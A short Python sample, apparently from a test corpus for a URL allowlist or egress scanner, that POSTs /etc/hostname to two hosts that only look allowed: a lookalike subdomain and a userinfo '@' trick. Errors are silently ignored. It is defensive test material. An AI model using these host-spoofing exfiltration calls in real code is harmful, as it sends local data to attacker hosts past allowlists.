# corpus: URL whose host only looks allowed (api.example.com.evil.example.net and userinfo @ trick)
import urllib.request

for url in ("https://api.example.com.evil.example.net/collect",
            "https://api.example.com@203.0.113.14/collect"):
    try:
        urllib.request.urlopen(url, data=open("/etc/hostname", "rb").read(), timeout=3)
    except Exception:
        pass
